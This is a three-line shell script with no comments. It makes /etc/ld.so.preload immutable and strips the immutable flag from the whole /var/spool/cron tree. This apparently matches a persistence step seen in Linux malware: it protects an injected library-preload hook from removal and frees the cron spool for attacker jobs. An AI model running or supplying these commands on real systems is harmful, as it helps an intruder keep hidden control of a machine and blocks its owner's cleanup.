#!/bin/sh
chattr +i /etc/ld.so.preload
chattr -R -i /var/spool/cron
